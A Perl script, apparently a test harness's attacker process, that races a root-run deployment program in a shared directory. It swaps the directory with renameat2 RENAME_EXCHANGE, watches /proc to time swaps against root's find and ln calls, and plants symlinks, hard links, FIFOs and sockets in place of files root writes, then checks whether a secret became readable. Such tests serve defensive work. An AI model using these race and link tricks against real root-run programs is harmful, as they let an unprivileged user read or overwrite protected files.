# The attacker: an unprivileged user of the host, who takes turns with a program that pauses for him, or races one that doesn't.
#
#     attacker.pl turns            takes a turn for each line "TRICK NUMBER" of the pipe `go`, and answers in the pipe `answer`:
#                                  "ok", or "read FILE" if a file with the secret could be read
#     attacker.pl preview LINK     waits for a listing in the preview and exchanges the directory and LINK, until `stop` exists
#     attacker.pl storm LINK       exchanges the directory and LINK as fast as it can, until `stop` exists
#
# The last two print how often they exchanged. ATTACK is the directory of the pipes and of `stop`.
use strict;
use warnings;
use POSIX ();
use Socket;

my ($mode, @arguments) = @ARGV;
my $attack = $ENV{ATTACK} || '/run/attack';
my $shared = $ENV{SHARED} || '/opt/app/shared';
my $victim = '/etc/victim';
my $secret = 'hush-of-root-6d1f';
my %renameat2 = (x86_64 => 316, aarch64 => 276);
my $number = $renameat2{ (POSIX::uname())[4] } or die "no renameat2 known here\n";
my $storm;

sub exchange {
    my ($other) = @_;
    # AT_FDCWD, and the flag RENAME_EXCHANGE.
    return syscall($number, -100, $shared, -100, $other, 2) == 0;
}

# Hundredths of a second.
sub ticks {
    return (POSIX::times())[0];
}

# For a moment, while root continues.
sub storm {
    my ($other) = @_;
    $storm = fork;
    return if $storm;
    my $end = ticks() + 3;
    exchange($other) while ticks() < $end;
    POSIX::_exit(0);
}

sub settle {
    waitpid $storm, 0 if $storm;
    $storm = undef;
}

# Root's own directories in there.
sub staging_directories {
    opendir(my $directory, $shared) or return;
    return grep { !/^\.\.?$/ && !-l "$shared/$_" && -d _ && (lstat _)[4] == 0 } readdir $directory;
}

sub take_staging {
    my ($put) = @_;
    my $taken = 0;
    for my $name (staging_directories()) {
        rename("$shared/$name", "$shared/.taken-$$-" . $taken++) or next;
        $put->("$shared/$name");
    }
}

sub directory_of_links {
    my ($path) = @_;
    mkdir $path, 0777;
    symlink("$victim/hush", "$path/$_") for (0 .. 3, 'back');
}

sub replace {
    my ($name, $make) = @_;
    my $new = "$shared/.new-$name";
    unlink $new;
    $make->($new);
    rename($new, "$shared/$name");
}

# In place of each file that root writes, changes or removes there.
sub replace_files {
    my ($make) = @_;
    replace($_, $make) for ('app.env', 'secret.env', 'gone.env');
}

my %tricks = (
    'directory' => sub { exchange('/opt/app/to-victim') },
    'programs' => sub { exchange('/opt/app/to-programs') },
    'directory-pipe' => sub { rename($shared, "$shared.away-" . ticks()) && POSIX::mkfifo($shared, 0666) },
    'nothing' => sub { rename($shared, "$shared.away-" . ticks()) },
    'storm' => sub { storm('/opt/app/to-victim') },
    'storm-programs' => sub { storm('/opt/app/to-programs') },
    'staging-link' => sub { take_staging(sub { symlink($victim, $_[0]) }) },
    'staging-directory' => sub { take_staging(\&directory_of_links) },
    'file-link' => sub { replace_files(sub { symlink("$victim/hush", $_[0]) }) },
    # If the kernel refuses such a link, it is a symbolic one.
    'file-hard-link' => sub { replace_files(sub { link("$victim/back", $_[0]) or symlink("$victim/hush", $_[0]) }) },
    'file-pipe' => sub { replace_files(sub { POSIX::mkfifo($_[0], 0666) }) },
    'file-socket' => sub {
        replace_files(sub {
            socket(my $socket, PF_UNIX, SOCK_STREAM, 0) or return;
            bind($socket, pack_sockaddr_un($_[0]));
        });
    },
    'file-directory' => sub {
        for ('app.env', 'gone.env') { unlink "$shared/$_"; mkdir "$shared/$_" }
    },
    'inner-link' => sub { rename("$shared/new", "$shared/.old-" . ticks()); symlink($victim, "$shared/new") },
    'wait' => sub { settle() },
);

# The first readable file below the directory that contains the secret, or ''.
sub readable {
    my ($path, $depth) = @_;
    opendir(my $directory, $path) or return '';
    for my $name (readdir $directory) {
        next if $name =~ /^\.\.?$/;
        my $file = "$path/$name";
        if (!-l $file && -d _ && $depth > 0) {
            my $found = readable($file, $depth - 1);
            return $found if $found ne '';
        } elsif (-f $file && open(my $handle, '<', $file)) {
            my $text = '';
            return $file if read($handle, $text, 4096) && index($text, $secret) >= 0;
        }
    }
    return '';
}

sub turns {
    open(my $go, '+<', "$attack/go") or die "go: $!\n";
    open(my $answer, '+>', "$attack/answer") or die "answer: $!\n";
    $answer->autoflush(1);
    while (my $line = <$go>) {
        my ($trick) = split ' ', $line;
        exit 0 if $trick eq 'end';
        settle();
        ($tricks{$trick} or die "no trick $trick\n")->();
        my $found = readable('/opt/app', 4);
        print $answer $found eq '' ? "ok\n" : "read $found\n";
    }
}

# Checks whether root lists the directory of a preview, or links what it has listed. The first one is root's own, where it is too early.
sub previews {
    opendir(my $proc, '/proc') or return 0;
    for my $pid (reverse grep { /^\d+$/ } readdir $proc) {
        open(my $handle, '<', "/proc/$pid/cmdline") or next;
        local $/;
        my $arguments = <$handle>;
        return 1 if defined $arguments && $arguments =~ m{^(find|ln)\0.*/real/[1-9]}s;
    }
    return 0;
}

sub preview {
    my ($link) = @_;
    my $times = 0;
    until (-e "$attack/stop") {
        next unless previews();
        $times++ if exchange($link);
        # Once per deployment; the test restores the directory.
        select(undef, undef, undef, 0.01) until -e "$attack/stop";
    }
    print "$times\n";
}

sub race {
    my ($link) = @_;
    my ($times, $turn) = (0, 0);
    until ($turn % 64 == 0 && -e "$attack/stop") {
        $turn++;
        $times++ if exchange($link);
    }
    print "$times\n";
}

if    ($mode eq 'turns')   { turns() }
elsif ($mode eq 'preview') { preview(@arguments) }
elsif ($mode eq 'storm')   { race(@arguments) }
else                       { die "no mode $mode\n" }
